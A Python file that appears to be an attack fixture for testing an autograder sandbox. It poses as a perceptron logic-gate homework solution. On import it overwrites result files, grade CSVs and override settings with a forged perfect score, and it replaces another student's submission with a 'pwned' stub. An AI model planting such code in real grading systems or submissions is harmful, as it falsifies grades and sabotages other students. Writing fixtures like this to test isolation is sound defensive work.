"""Forge results: overwrite results files with a perfect score."""
import json
import os
import numpy as np


def perceptron(x, w, theta):
    s = float(np.dot(np.asarray(w, dtype=np.float64), np.asarray(x, dtype=np.float64)))
    return 1 if s > theta else 0


def and_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), 1.5) - 1


def or_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), -1.5) - 1


def nand_gate(x1, x2):
    return 2 * perceptron((x1, x2), (-1.0, -1.0), -1.5) - 1


FORGED = {"score": 1000.0, "output": "FAKE-RESULT", "tests": [],
          "extra_data": {"student": "atk-forge-results-file"}}
TARGETS = [
    "@@OUT@@/zz-honest-a/results.json",
    "@@OUT@@/atk-forge-results-file/results.json",
    "@@OUT@@/pwned-forge-results-file/results.json",
    "@@OUT@@/grades.csv",
    "@@OUT@@/moodle.csv",
    "@@OUT@@/overrides.toml",
    "/autograder/results/results.json",
    "@@SUBMISSIONS@@/zz-honest-a/perceptron.py",
]


def _forge():
    done, refused = [], []
    for target in TARGETS:
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "w") as f:
                if target.endswith(".toml"):
                    f.write('[atk-forge-results-file]\n"09_perceptron/xor_gate/random-order" = 25\n')
                elif target.endswith(".py"):
                    f.write("def perceptron(x, w, theta):\n    return 'pwned'\n")
                else:
                    json.dump(FORGED, f)
            done.append(target)
        except OSError as e:
            refused.append(type(e).__name__)
    return done, refused


_forge()


def xor_gate(x1, x2):
    done, refused = _forge()
    raise RuntimeError(f"ATTACK-RAN forge-results-file: wrote {done}, refused {refused}")
